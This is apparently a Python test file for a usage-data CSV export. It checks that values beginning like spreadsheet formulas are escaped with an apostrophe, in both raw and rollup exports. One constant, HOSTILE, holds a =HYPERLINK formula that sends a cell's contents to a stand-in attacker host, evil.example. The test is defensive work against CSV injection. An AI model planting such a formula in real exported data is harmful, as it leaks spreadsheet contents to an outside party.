"""The usage export never hands a spreadsheet a formula: a model name from a provider's
answer that starts like one (`=`, `+`, `-`, `@`, tab, CR) is exported as text, on both the raw
and the rollup export; ordinary names and every number are exported unchanged."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session

from mosoo_core import identity, usage
from mosoo_core.usage import UsageNumbers, record_usage
from mosoo_core.usage.export import text_cell

DAY = date(2026, 11, 3)
HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("gpt-4o-mini", "gpt-4o-mini"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_text_cell_that_starts_like_a_formula_gets_an_apostrophe(value: str, cell: str) -> None:
    assert text_cell(value) == cell


def _export(engine: Engine, account_id: str, app_id: str, kind: str) -> list[dict[str, str]]:
    exported = usage.usage_csv(
        lambda: Session(engine), account_id, app_id, start=DAY, end=DAY, kind=kind
    )
    return list(csv.DictReader(io.StringIO("".join(exported.chunks))))


def test_a_hostile_model_name_is_exported_as_text_in_raw_and_rollup_rows(engine: Engine) -> None:
    with Session(engine) as db:
        account = identity.sign_in_identity(
            db, provider="email", subject="cells@example.com", email="cells@example.com"
        )
        account_id, app_id = account.id, identity.list_apps(db, account.id)[0].id
        at = datetime(DAY.year, DAY.month, DAY.day, 12, tzinfo=UTC)
        for model in (HOSTILE, "plain-model"):
            record_usage(
                db,
                app_id=app_id,
                provider="openai",
                model=model,
                numbers=UsageNumbers(input_tokens=10, output_tokens=5),
                purpose="api",
                at=at,
            )
        db.commit()
        usage.rebuild(db, start=DAY, end=DAY, now=datetime.now(UTC))
        db.commit()

    for kind in ("raw", "rollup"):
        models = sorted(row["model"] for row in _export(engine, account_id, app_id, kind))
        assert models == sorted(["'" + HOSTILE, "plain-model"]), kind
        assert all(not m.startswith("=") for m in models)
    raw = _export(engine, account_id, app_id, "raw")
    assert {row["input_tokens"] for row in raw} == {"10"}  # numbers stay numbers
